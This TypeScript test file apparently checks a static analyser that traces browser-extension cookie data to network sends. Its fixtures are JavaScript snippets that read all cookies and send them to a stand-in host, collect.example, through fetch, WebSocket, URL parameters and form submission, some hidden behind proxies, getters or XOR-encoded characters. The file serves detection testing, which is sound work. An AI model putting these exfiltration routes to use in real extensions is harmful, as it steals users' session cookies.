import { expect, test } from 'vitest';
import { factsOf } from '../testing/examples.ts';
import { flowsOf } from './flowsOf.ts';
import { sample } from '../testing/sample.ts';

const SEND = "fetch('https://collect.example/', { method: 'POST', body: ";
/** What stands between cookies read and cookies sent. */
const CARRIERS: Readonly<Record<string, string>> = {
  'an object given to its own method': `const box = { kept: all, data() { return this.kept; } }; ${SEND}box.data() });`,
  'an object filled later': `${SEND}box.data() }); box.kept = all;`,
  'a getter of an object': `const box = { get data() { return all; } }; ${SEND}box.data });`,
  'a getter of a class': `${SEND}new Kept(all).data });`,
  'a field of an instance': `const one = new Kept(all); ${SEND}one.kept });`,
  'a field written from outside, read by a method': `const one = new Kept(); one.kept = all; one.send();`,
  'a socket that a function gives': `let s; const opened = async () => { s = new WebSocket('wss://collect.example/'); return s; }; opened().then(async () => { const one = await opened(); one.send(JSON.stringify(all)); });`,
  'a bound argument': `const go = send.bind(null, all); go();`,
  'a thrown object': `try { throw { data: all }; } catch (problem) { ${SEND}problem.data }); }`,
  'a proxy': `const box = new Proxy({ data: all }, {}); ${SEND}box.data });`,
  'characters, each computed': `let out = ''; const text = String(all); for (let i = 0; i < text.length; i++) out += String.fromCharCode(text.charCodeAt(i) ^ 7); ${SEND}out });`,
  'parameters filled one by one': `const p = new URLSearchParams(); p.set('c', String(all)); ${SEND}p.toString() });`,
  'parameters within a text': `const p = new URLSearchParams(); p.append('c', String(all)); fetch('https://collect.example/?' + p);`,
  'an address that was filled': `const u = new URL('https://collect.example/'); u.searchParams.set('c', String(all)); fetch(u.href);`,
  'a field of a form, set as an attribute': `const form = document.createElement('form'); const field = document.createElement('input'); form.setAttribute('action', 'https://collect.example/'); field.setAttribute('value', String(all)); form.appendChild(field); form.submit();`,
};
const DECLARED = `class Base {} class Kept extends Base { constructor(kept) { super(); this.kept = kept; } get data() { return this.kept; } send() { ${SEND}this.kept }); } } const box = { kept: 0, data() { return this.kept; } }; function send(x) { ${SEND}x }); }`;

async function isSent(body: string): Promise<boolean> {
  const facts = await factsOf(sample({ background: `${DECLARED} chrome.cookies.getAll({}, (all) => { ${body} });` }));
  return facts.whole(flowsOf).flows.some(({ source, sink }) => source.kind === 'cookies' && sink.kind === 'network');
}

test.each(Object.entries(CARRIERS))('follows data through %s', async (_, body) => {
  expect(await isSent(body)).toBe(true);
});

test.each([
  ['counted', `${SEND}String(all.length * 2) });`],
  ['compared', `${SEND}String(all > 3) });`],
  [
    'thrown elsewhere',
    `try { ready(); } catch (problem) { ${SEND}problem.data }); } function ready() { throw { data: 'x' }; } void all;`,
  ],
  [
    'put into parameters that stay',
    `const p = new URLSearchParams(); p.set('c', String(all)); const q = new URLSearchParams(); ${SEND}q.toString() });`,
  ],
  [
    'an attribute beside a form',
    `const form = document.createElement('form'); form.action = 'https://collect.example/'; const box = document.createElement('div'); box.setAttribute('value', String(all)); form.submit();`,
  ],
])('does not take for data what is only %s', async (_, body) => {
  expect(await isSent(body)).toBe(false);
});
